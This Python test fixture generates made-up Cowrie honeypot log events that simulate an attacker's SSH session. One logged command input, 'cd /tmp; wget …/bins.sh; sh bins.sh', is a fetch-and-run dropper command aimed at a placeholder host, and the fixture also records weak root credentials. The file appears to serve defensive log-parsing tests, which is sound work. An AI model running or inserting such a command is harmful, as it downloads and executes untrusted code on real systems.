"""Log lines as Cowrie writes them, made up: nobody's real addresses or files."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

START = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
SHA256 = "ab" * 32


def line(kind: str, seconds: float = 0, session: str = "c0ffee000001", **fields: Any) -> bytes:
    """One line of the log, `seconds` after the start."""
    at = START + timedelta(seconds=seconds)
    body = {
        "eventid": f"cowrie.{kind}", "session": session, "sensor": "trap", "src_ip": "203.0.113.9",
        "timestamp": f"{at:%Y-%m-%dT%H:%M:%S.%f}Z", "message": "as ever", **fields,
    }  # fmt: skip
    return json.dumps(body).encode()


def visit(session: str = "c0ffee000001", begin: float = 0) -> list[bytes]:
    """A whole visit: log-in, a command, a download, a close."""
    url = "http://198.51.100.7/bins.sh"
    return [
        line(
            "session.connect",
            begin,
            session,
            src_port=4711,
            dst_ip="192.0.2.1",
            dst_port=2222,
            protocol="ssh",
        ),
        line("client.version", begin + 0.1, session, version="SSH-2.0-Go"),
        line("client.kex", begin + 0.2, session, hassh="0a" * 16, hasshAlgorithms="a,b;c;d;none"),
        line("login.failed", begin + 1, session, username="root", password="root"),
        line("login.success", begin + 2, session, username="root", password="admin"),
        line("client.size", begin + 2.1, session, width=80, height=24),
        line("command.input", begin + 3, session, input=f"cd /tmp; wget {url}; sh bins.sh"),
        line("command.failed", begin + 3.1, session, input="foo bar"),
        line("session.file_download", begin + 4, session, url=url, outfile="downloads/x", shasum=SHA256),
        line("session.closed", begin + 5, session, duration=5.25),
    ]
